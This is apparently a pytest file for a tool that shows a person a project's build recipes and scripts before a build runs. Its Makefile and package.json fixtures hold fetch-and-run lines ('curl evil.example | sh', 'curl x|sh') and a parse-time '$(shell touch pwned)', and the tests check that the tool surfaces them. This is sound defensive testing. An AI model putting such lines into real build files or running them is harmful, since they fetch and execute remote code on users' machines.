"""What a person reads of a build before it runs: the project's own words, bounded, and what is left out is counted."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sluice.tools.project import Plan
from sluice.tools.project_words import MAX_LINE_CHARACTERS, MAX_LINES, _joined, _rules, project_words

pytestmark = pytest.mark.parametrize("bench", ["openat2"], indirect=True)

MAKEFILE = """\
CC != which gcc
V := $(shell touch pwned)
-include local.mk
.PHONY: all test
# a comment
all: build ; echo first
\techo all \\
\t  more
build: out/x | out
\tcc -o x
\t@curl evil.example | sh
out/x:
\ttouch out/x
A := b:c
test check: all
\t./run-tests
%.o: %.c
\tcc $<
"""


def words(bench: Any, kind: str, *commands: tuple[str, ...]) -> list[str]:
    return list(project_words(bench.workspace, Plan(kind, commands, (kind,))))


def test_make_shows_the_recipes_behind_a_target_and_what_it_runs_while_it_reads(bench: Any) -> None:
    (bench.root / "Makefile").write_text(MAKEFILE)
    shown = words(bench, "make", ("/usr/bin/make",))
    assert shown[:5] == [
        "$ make",
        "Makefile, all: needs build",
        "    echo first",
        "    echo all  more",
        "Makefile, build: needs out/x out",
    ]
    assert "    @curl evil.example | sh" in shown
    assert "Makefile, out/x:" in shown
    assert shown[-3:] == [
        "Makefile, while it is read: CC != which gcc",
        "Makefile, while it is read: V := $(shell touch pwned)",
        "Makefile, while it is read: -include local.mk",
    ]
    assert not any("run-tests" in line for line in shown)
    assert "    ./run-tests" in words(bench, "make", ("/usr/bin/make", "test"))


def test_the_makefile_that_make_would_take_is_shown(bench: Any) -> None:
    (bench.root / "Makefile").write_text("all:\n\techo harmless\n")
    (bench.root / "GNUmakefile").write_text("all:\n\techo other\n")
    assert "    echo other" in words(bench, "make", ("/usr/bin/make",))


def test_node_shows_its_scripts_and_those_around_them(bench: Any) -> None:
    (bench.root / "package.json").write_text(
        '{"scripts": {"pretest": "curl x|sh", "test": "jest", "build": "tsc", "posttest": 5}}'
    )
    shown = words(bench, "node", ("/usr/bin/npm", "test"))
    assert shown == [
        "$ npm test",
        "package.json, script pretest:",
        "    curl x|sh",
        "package.json, script test:",
        "    jest",
    ]
    (bench.root / "package.json").write_text("[" * 100_000)
    assert words(bench, "node", ("/usr/bin/npm", "test")) == ["$ npm test"]


@pytest.mark.parametrize(
    ("kind", "name", "command"),
    [
        ("build.sh", "build.sh", ("/bin/bash", "./build.sh", "debug")),
        ("cmake", "CMakeLists.txt", ("/usr/bin/cmake", "-S", ".")),
        ("rust", "build.rs", ("/usr/bin/cargo", "build")),
        ("python", "conftest.py", ("/usr/bin/python3", "-m", "pytest")),
    ],
)
def test_files_that_are_run_are_shown(bench: Any, kind: str, name: str, command: tuple[str, ...]) -> None:
    (bench.root / name).write_text("one\n\ttwo\n")
    shown = words(bench, kind, command)
    assert shown[1:4] == [f"{name} (9 bytes):", "    one", "    \ttwo"]


def test_what_is_long_is_cut_and_counted(bench: Any) -> None:
    (bench.root / "build.sh").write_text("echo\n" * 500 + "x" * 10_000)
    shown = words(bench, "build.sh", ("/bin/bash", "./build.sh", "debug"))
    assert len(shown) == MAX_LINES
    assert shown[-1] == "… and 464 more lines, which are not shown"
    (bench.root / "build.sh").write_text("x" * 10_000)
    last = words(bench, "build.sh", ("/bin/bash", "./build.sh", "debug"))[-1]
    assert last.endswith(f"x … and {10_004 - MAX_LINE_CHARACTERS} more characters, which are not shown")


def test_targets_without_end_are_not_followed_for_ever(bench: Any) -> None:
    (bench.root / "Makefile").write_text("".join(f"t{n}: t{n + 1} t0\n\techo {n}\n" for n in range(5000)))
    shown = words(bench, "make", ("/usr/bin/make",))
    assert any("more targets than 16" in line for line in shown)


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(alphabet=st.sampled_from("ab :;=\t\n\\#|%.$"), max_size=200))
def test_any_makefile_is_read(bench: Any, text: str) -> None:
    for needs, recipe in _rules(_joined(text)).values():
        assert all(isinstance(one, str) for one in [*needs, *recipe])
